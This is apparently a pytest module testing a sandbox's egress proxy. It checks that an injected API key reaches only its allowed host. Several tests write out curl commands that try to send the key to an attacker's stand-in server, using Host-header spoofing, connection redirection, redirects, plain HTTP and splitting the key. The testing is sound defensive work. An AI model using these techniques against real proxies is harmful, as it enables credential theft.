"""Getting at a secret that stays outside, from inside: by sending it elsewhere, or by having it sent back.

The sandbox reaches hosts through the proxy of its policy, which goes to servers on loopback: `api.test`, for which the
secret is, and others. All of them remember what they were sent.
"""

from __future__ import annotations

import base64
import logging
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from dataclasses import dataclass

import pytest

from atoll import NetworkPolicy, Sandbox, Secret
from atoll.contract.inside import EGRESS_PORT
from atoll.runtime.engine import LocalEngine
from tests import searching
from tests.egress.world import World
from tests.origin import Origin, TestAuthority, origin

VALUE = "sk-live-c0ffee8d52a1"
API, OTHER, PLAIN = "93.184.216.34", "93.184.216.35", "93.184.216.36"
"""Public addresses. Nothing is ever sent there."""
CURL = "curl -sS --max-time 20"
BEARER = '-H "Authorization: Bearer $API_KEY"'


@dataclass
class Scene:
    inside: Sandbox
    placeholder: bytes
    api: Origin
    other: Origin
    plain: Origin
    also_plain: Origin
    """What answers for `api.test` without TLS."""

    @property
    def leaked(self) -> list[str]:
        """Who was sent the value that should not have been."""
        servers = {"other": self.other, "also_plain": self.also_plain}
        return [name for name, server in servers.items() if VALUE.encode() in server.raw]

    def forget(self) -> None:
        for server in (self.api, self.other, self.plain, self.also_plain):
            server.asked.clear()
            server.raw = server.stored = b""


@pytest.fixture(scope="module")
async def scene(
    engine: LocalEngine, tmp_path_factory: pytest.TempPathFactory, anyio_backend: str
) -> AsyncIterator[Scene]:
    authority = TestAuthority(tmp_path_factory.mktemp("world"))
    world = World()
    async with AsyncExitStack() as stack:
        api = await stack.enter_async_context(origin(authority.server_context("api.test")))
        # The attacker's server says that it is everybody.
        other = await stack.enter_async_context(origin(authority.server_context("other.test", "api.test")))
        plain = await stack.enter_async_context(origin(None))
        also_plain = await stack.enter_async_context(origin(None))
        for name, address in (("api.test", API), ("other.test", OTHER), ("plain.test", PLAIN)):
            world.name(name, [address])
        world.servers = {(API, 443): api.port, (OTHER, 443): other.port, (PLAIN, 80): plain.port}
        world.servers |= {(API, 80): also_plain.port, (OTHER, 80): also_plain.port, (PLAIN, 443): other.port}
        engine.egress_servers.connector = world.connector
        engine.egress_servers.trust = authority.client_context()
        sandbox = await engine.create(
            network=NetworkPolicy(allow=["*.test", API]),
            secrets={"API_KEY": Secret(VALUE, hosts=["api.test", "http://plain.test"])},
        )
        stack.push_async_callback(sandbox.destroy)
        placeholder = (await sandbox.exec(["printenv", "API_KEY"])).stdout.strip().encode()
        yield Scene(sandbox, placeholder, api, other, plain, also_plain)
        engine.egress_servers.connector = None
        del engine.egress_servers.trust


@pytest.fixture(autouse=True)
def _anew(scene: Scene) -> None:
    scene.forget()


async def run(scene: Scene, command: str) -> str:
    """What a command prints; a value that comes back is never right."""
    done = await scene.inside.exec(command, timeout_s=40)
    assert VALUE not in done.stdout + done.stderr
    return done.stdout + done.stderr


async def test_the_value_gets_to_its_host_from_programs_that_know_nothing_of_it(scene: Scene) -> None:
    assert "hello" in await run(scene, f"{CURL} https://api.test/curl {BEARER}")
    program = (
        "import os, urllib.request as u; key = os.environ['API_KEY']; "
        "print(u.urlopen(u.Request('https://api.test/python', headers={'Authorization': key})).read())"
    )
    assert "hello" in await run(scene, f'python3 -c "{program}"')
    await run(scene, f"{CURL} -u user:$API_KEY https://api.test/basic")
    await run(scene, f"{CURL} http://plain.test/plain {BEARER}")
    sent = [asked.all("authorization") for asked in (*scene.api.asked, *scene.plain.asked)]
    basic = base64.b64encode(f"user:{VALUE}".encode())
    assert sent == [[f"Bearer {VALUE}".encode()], [VALUE.encode()], [b"Basic " + basic], [f"Bearer {VALUE}".encode()]]


async def test_other_hosts_get_the_placeholder_over_a_connection_that_nobody_touched(scene: Scene) -> None:
    said = await run(scene, f"{CURL} -kv https://other.test/echo {BEARER} -H 'Host: api.test'")
    assert "the world's authority" in said
    assert scene.placeholder.decode() in said
    await run(scene, f"{CURL} http://other.test/ {BEARER} -H 'Host: plain.test'")
    assert scene.other.asked[0].all("authorization") == [b"Bearer " + scene.placeholder]
    assert scene.leaked == []


async def test_names_that_do_not_agree_get_nothing(scene: Scene) -> None:
    # To another server, with the host's name in TLS and in the request; to the host's address, without its name.
    await run(scene, f"{CURL} -k --connect-to api.test:443:other.test:443 https://api.test/ {BEARER}")
    await run(scene, f"{CURL} -k --connect-to api.test:443:{API}:443 https://api.test/ {BEARER}")
    assert [asked.all("authorization") for asked in (*scene.other.asked, *scene.api.asked)] == [
        [b"Bearer " + scene.placeholder]
    ] * 2
    # To the host, with another name in TLS or in the request.
    scene.forget()
    await run(scene, f"{CURL} -k --connect-to other.test:443:api.test:443 https://other.test/ {BEARER}")
    assert "421" in await run(scene, f"{CURL} -i https://api.test/ -H 'Host: other.test' {BEARER}")
    assert "421" in await run(scene, f"{CURL} -i https://api.test/ -H 'Host: api.test.other.test' {BEARER}")
    assert (scene.api.asked, scene.leaked) == ([], [])


async def test_elsewhere_in_a_request_it_stays_a_placeholder(scene: Scene) -> None:
    await run(scene, f'{CURL} "https://api.test/$API_KEY?k=$API_KEY" -d "$API_KEY" -H "X-Other: $API_KEY"')
    halves = '-H "Authorization: ${API_KEY%????????} ${API_KEY#????????}"'
    await run(scene, f'{CURL} https://api.test/ {halves} -H "Authorization2: $API_KEY" -A "$API_KEY" -b k=$API_KEY')
    assert len(scene.api.asked) == 2
    assert VALUE.encode() not in scene.api.raw


async def test_a_redirect_takes_the_placeholder_along_and_not_the_value(scene: Scene) -> None:
    await run(scene, f"{CURL} -kL --location-trusted https://api.test/moved {BEARER}")
    assert scene.api.asked[0].all("authorization") == [f"Bearer {VALUE}".encode()]
    assert scene.other.asked[0].line == b"GET /caught HTTP/1.1"
    assert scene.other.asked[0].all("authorization") == [b"Bearer " + scene.placeholder]
    assert scene.leaked == []


async def test_a_server_that_says_what_it_was_sent_says_asterisks(scene: Scene) -> None:
    for path in ("echo", "pieces"):
        for url in (f"https://api.test/{path}", f"http://plain.test/{path}"):
            said = await run(scene, f"{CURL} -i --compressed {url} {BEARER}")
            assert "*" * len(VALUE) in said
    said = await run(scene, f"{CURL} -i -u user:$API_KEY https://api.test/echo")
    assert base64.b64encode(f"user:{VALUE}".encode()).decode() not in said
    for url in ("https://api.test/echo", "http://plain.test/echo"):
        assert "TRACE" in await run(scene, f"{CURL} -X TRACE {url} {BEARER}")
    assert (len(scene.api.asked), len(scene.plain.asked)) == (3, 2)


WAYS = ("", "-p", f"--socks5-hostname 127.0.0.1:{EGRESS_PORT}")
"""A plain request to the proxy, CONNECT, and SOCKS."""


@pytest.mark.parametrize(
    ("options", "url"),
    [("", "https://api.test"), *((way, url) for url in ("http://api.test", "http://plain.test") for way in WAYS)],
)
async def test_a_host_that_shows_later_what_it_was_sent_shows_asterisks_whatever_the_way(
    scene: Scene, options: str, url: str
) -> None:
    await run(scene, f"{CURL} https://api.test/keep {BEARER}; {CURL} http://plain.test/keep {BEARER}")
    for server in (scene.api, scene.also_plain, scene.plain):
        server.stored = b"(" + scene.api.raw + scene.plain.raw + b")"
    assert scene.api.stored.count(VALUE.encode()) == 2
    said = await run(scene, f"{CURL} {options} {url}/stored")
    assert said == scene.api.stored.decode().replace(VALUE, "*" * len(VALUE))


@pytest.mark.parametrize("options", ["", f"--socks5-hostname 127.0.0.1:{EGRESS_PORT}"])
async def test_tls_to_a_host_that_was_named_without_it_is_refused_because_it_cannot_be_searched(
    scene: Scene, options: str
) -> None:
    said = await run(scene, f"{CURL} -k {options} https://plain.test/stored")
    assert "alert access denied" in said
    assert scene.other.raw == b""
    record = [record for record in await scene.inside.audit() if record.host == "plain.test"][-1]
    assert record.verdict == "denied"
    assert record.reason is not None
    assert "add the host plain.test" in record.reason


async def test_without_tls_it_is_not_sent_to_a_host_that_was_named_with_it(scene: Scene) -> None:
    assert "not sent without TLS" in await run(scene, f"{CURL} http://api.test/ {BEARER}")
    # A tunnel to the same port is no way around: in it a placeholder is one.
    await run(scene, f"{CURL} -p http://api.test/ {BEARER}")
    assert [asked.all("authorization") for asked in scene.also_plain.asked] == [[b"Bearer " + scene.placeholder]]
    assert scene.leaked == []


async def test_a_host_that_cannot_prove_itself_is_sent_nothing(scene: Scene, engine: LocalEngine) -> None:
    trusted = engine.egress_servers.trust
    import ssl

    engine.egress_servers.trust = ssl.create_default_context()
    try:
        assert "the certificate of api.test is not valid: " in await run(scene, f"{CURL} -k https://api.test/ {BEARER}")
    finally:
        engine.egress_servers.trust = trusted
    assert scene.api.raw == b""


async def test_after_all_this_the_value_is_nowhere(
    scene: Scene, engine: LocalEngine, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    await run(scene, f"{CURL} https://api.test/echo {BEARER}")
    processes = searching.processes_of(scene.inside.id)
    assert any(searching.in_memory(pid, scene.placeholder) for pid in processes)
    assert not [pid for pid in processes if searching.in_memory(pid, VALUE.encode())]
    assert searching.in_tree(engine.state_dir, VALUE.encode()) == []
    audited = [record.model_dump_json() for record in await scene.inside.audit()]
    assert [line for line in audited if '"host":"api.test"' in line]
    assert not [line for line in (*audited, caplog.text) if VALUE in line]


async def test_who_is_forked_or_woken_has_it_too(scene: Scene, engine: LocalEngine) -> None:
    secret = Secret(VALUE, hosts=["api.test"])
    network = NetworkPolicy(allow=["*.test"])
    async with await engine.create(network=network, secrets={"API_KEY": secret}) as sandbox:
        (fork,) = await sandbox.fork()
        async with fork:
            await fork.sleep()
            for each in (sandbox, fork):
                done = await each.exec(f"{CURL} https://api.test/ {BEARER}", timeout_s=40)
                assert done.stdout == "hello\n", done.stderr
    assert [asked.all("authorization") for asked in scene.api.asked] == [[f"Bearer {VALUE}".encode()]] * 2
